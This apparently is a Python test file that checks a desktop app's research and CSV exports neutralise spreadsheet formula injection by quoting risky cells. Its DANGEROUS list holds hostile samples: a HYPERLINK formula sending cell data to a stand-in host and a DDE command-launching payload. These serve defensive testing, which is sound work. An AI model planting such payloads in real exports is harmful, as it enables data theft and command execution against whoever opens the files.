"""Text people typed cannot run as a formula in the spreadsheet a CSV is opened in.

A story, a questionnaire answer and a name starting with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return (or the full-width ``＝ ＋ － ＠``) go out through the real
research export and the CSV lists; read back with Python's csv module, each such cell
starts with a single quote, and ordinary text and plain numbers are as they were.
"""

from __future__ import annotations

import contextlib
import csv
import uuid
from datetime import date
from pathlib import Path

from lt_desktop.core.services.documents.csv_exports import CsvKind
from lt_desktop.core.sign_in import sign_in
from lt_desktop.core.spreadsheets import spreadsheet_cell
from lt_desktop.core.workspace import Workspace
from lt_desktop.domain.errors import ConflictError
from lt_desktop.domain.vocabulary import (
    ConsentScope,
    ItemKind,
    MembershipRole,
    PersonBase,
    QuestionnairePhase,
)
from tests.cli.support import run_as
from tests.helpers.questionnaires import item_id

DANGEROUS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(1)",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]
ORDINARY = "A good week: we talked about fairness, and I listened more than I spoke."


def _rows(path: Path, encoding: str = "utf-8") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as handle:
        return list(csv.reader(handle))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def _assert_neutralised(cells: list[str], typed: list[str]) -> None:
    for text in typed:
        assert "'" + text in cells, f"{text!r} did not go out as text"
        assert text not in cells, f"{text!r} went out as it was: a formula"


def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote() -> None:
    for text in DANGEROUS:
        assert spreadsheet_cell(text) == "'" + text
    for kept in (ORDINARY, "", "Smith-Jones", "3", -1, 2.5, None, "-1", "+2.5", "-0.75"):
        assert spreadsheet_cell(kept) == kept


def _share_consent(workspace: Workspace, person_id: uuid.UUID) -> None:
    with contextlib.suppress(ConflictError):
        workspace.consent.record(
            person_id, ConsentScope.SHARE_WITH_UNIVERSITY, given_on=date(2026, 9, 1)
        )


def test_the_research_export_writes_typed_formulas_as_text(demo: Workspace, tmp_path: Path) -> None:
    autumn = next(c for c in demo.programme.list_cohorts() if "September" in c.name)
    session = next(
        s
        for s in demo.programme.list_sessions(autumn.id)
        if s.marks_taken == 0 and not s.is_cancelled
    )
    week = demo.stories.week(session.id)
    writers = [line.person_id for line in week.lines if line.may_have_story]
    typed: list[str] = []
    for person_id, text in zip(writers, [*DANGEROUS, ORDINARY], strict=False):
        _share_consent(demo, person_id)
        saved = demo.stories.save(
            session.id, person_id, text=text, answers={week.questions[0].id: text}
        )
        typed += [saved.text, *saved.answers.values()]
    assert len(typed) == 2 * (len(DANGEROUS) + 1)

    template = demo.questionnaires.templates()[0]
    free_text = next(i for i in template.items if i.kind is ItemKind.FREE_TEXT)
    grid = demo.questionnaires.grid(template.id, autumn.id, QuestionnairePhase.POST)
    answering = [r.person_id for r in grid.rows if r.consent_problem is None]
    answered: list[str] = []
    for person_id, text in zip(answering, [*DANGEROUS, ORDINARY], strict=False):
        _share_consent(demo, person_id)
        answers: dict[uuid.UUID, int | str | None] = {item_id(i): 3 for i in template.likert_items}
        answers[item_id(free_text)] = text
        saved_answers = demo.questionnaires.save_response(
            template.id, autumn.id, person_id, QuestionnairePhase.POST, answers
        )
        answered.append(str(saved_answers[item_id(free_text)]))
    assert len(answered) == len(DANGEROUS) + 1

    folder = tmp_path / "export"
    folder.mkdir()
    demo.research.export(folder)
    stories = _cells(_rows(folder / "stories.csv"))
    _assert_neutralised(stories, [t for t in typed if t != ORDINARY])
    assert ORDINARY in stories
    answers_out = _rows(folder / "questionnaire_answers.csv")
    _assert_neutralised(_cells(answers_out), [t for t in answered if t != ORDINARY])
    assert ORDINARY in _cells(answers_out)
    for column in ("answer", "scored"):  # the figures stay figures
        at = answers_out[0].index(column)
        assert {row[at] for row in answers_out[1:]} <= {"", "1", "2", "3", "4", "5"}
    scores = _rows(folder / "questionnaire_scores.csv")
    assert not [c for c in _cells(scores[1:]) if c.startswith("'")]


def test_the_csv_lists_write_typed_formulas_as_text(demo_dir: Path, tmp_path: Path) -> None:
    # Names are one line of text: the tab and carriage return go out through the
    # research export above.
    named = [t for t in DANGEROUS if not t.startswith(("\t", "\r"))]
    with sign_in(demo_dir, "demo", "demo") as demo:
        spring = next(c for c in demo.programme.list_cohorts() if c.name.startswith("January"))
        typed = []
        for n, text in enumerate(named):
            person = demo.people.add_person(
                given_name=text, family_name=f"Formula{n}", base=PersonBase.UNIVERSITY
            )
            typed.append(person.given_name)
            demo.memberships.enrol(spring.id, person.id, role=MembershipRole.MENTOR)
        for kind in (CsvKind.PEOPLE, CsvKind.MEMBERSHIPS):
            target = tmp_path / f"{kind.value}.csv"
            demo.documents.export_csv(kind, target)
            cells = _cells(_rows(target, encoding="utf-8-sig"))
            _assert_neutralised(cells, typed)
            assert {f"Formula{n}" for n in range(len(named))} <= set(cells)

    printed = run_as(demo_dir, "demo", "csv", "people", "--out", tmp_path / "from the command.csv")
    assert printed.code == 0, printed.err
    cells = _cells(_rows(tmp_path / "from the command.csv", encoding="utf-8-sig"))
    _assert_neutralised(cells, typed)
